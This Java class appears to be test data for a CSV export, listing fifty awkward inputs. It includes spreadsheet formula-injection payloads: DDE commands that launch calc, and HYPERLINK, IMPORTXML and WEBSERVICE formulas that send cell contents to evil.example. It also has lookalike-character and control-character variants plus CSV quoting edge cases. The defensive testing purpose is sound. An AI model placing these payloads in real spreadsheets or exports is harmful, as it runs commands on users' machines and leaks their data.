package io.tieout.export;

import java.util.List;
import java.util.stream.Stream;

/** Fifty texts that somebody could put into a ref, a pay run, an element, a note or a name. */
final class NastyTexts {

    private NastyTexts() {}

    static List<String> fifty() {
        return Stream.concat(FORMULAS.stream(), OTHERS.stream()).toList();
    }

    /** What a spreadsheet would run, or take for a number or an address. */
    private static final List<String> FORMULAS = List.of(
            "=cmd|' /C calc'!A0",
            "=1+1",
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
            "=IMPORTXML(CONCAT(\"http://evil.example/?\",A1),\"//a\")",
            "=WEBSERVICE(\"http://evil.example\")",
            "==1",
            "+1",
            "+cmd|' /C calc'!A0",
            "++1",
            "-2+3",
            "-1",
            "-cmd|' /C calc'!A0",
            "--1",
            "@x",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "@@",
            "\t=1+1",
            "\r=1+1",
            "\n=1+1",
            "\r\n=1+1",
            "\uFF1D1+1",
            "\uFF0B1",
            "\uFF0D1",
            "\uFF20x",
            "(=1+1)");

    /** What a reader or writer of CSV could trip over. */
    private static final List<String> OTHERS = List.of(
            "a,b",
            "a;b",
            "a\tb",
            "a|b",
            "a\"b",
            "\"",
            "\"\"",
            "\"a\",\"=1+1\"",
            "a\",=1+1,\"b",
            "a\nb",
            "a\r\nb",
            "a\rb",
            "a\r\n=1+1,b",
            " leading",
            "trailing ",
            "007",
            "1E5",
            "3/4",
            "TRUE",
            "\uD83D\uDE00\uD83D\uDC69\u200D\uD83D\uDCBB",
            "\u05D0\u05D1\u05D2 \u202Eabc\u202C",
            "\uFEFFx",
            "\u0001\u0007\u001B[31m",
            "e\u0301\u0301\u0301\u0327",
            "x".repeat(32_766) + "=");
}
